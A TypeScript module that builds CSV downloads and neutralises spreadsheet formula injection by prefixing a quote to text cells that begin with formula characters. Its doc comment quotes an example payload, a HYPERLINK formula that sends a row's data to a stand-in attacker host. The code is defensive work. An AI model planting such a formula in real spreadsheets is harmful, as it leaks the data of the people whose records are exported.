/**
 * CSV for download (every CSV export goes through buildCsv). A spreadsheet program runs a cell that starts
 * with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula, so a livestream title
 * such as `=HYPERLINK("https://evil.example/?d="&C2,"点此核对")` would become a live link that leaks the
 * row. Such text cells are neutralised with a leading `'` (OWASP's advice), which the program shows as
 * text. Numbers passed as numbers, and text that is a plain decimal number (`-12.50`), stay numbers.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

export function neutraliseCsvText(s: string): string {
  return FORMULA_START.test(s) && !PLAIN_NUMBER.test(s) ? `'${s}` : s;
}

function csvCell(v: string | number): string {
  const s = typeof v === 'number' ? String(v) : neutraliseCsvText(v);
  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}

/** CSV with a BOM so that Excel reads the Chinese headers; cells quoted when needed, formulas neutralised. */
export function buildCsv(headers: string[], rows: (string | number)[][]): string {
  return '\uFEFF' + [headers, ...rows].map((r) => r.map(csvCell).join(',')).join('\r\n') + '\r\n';
}
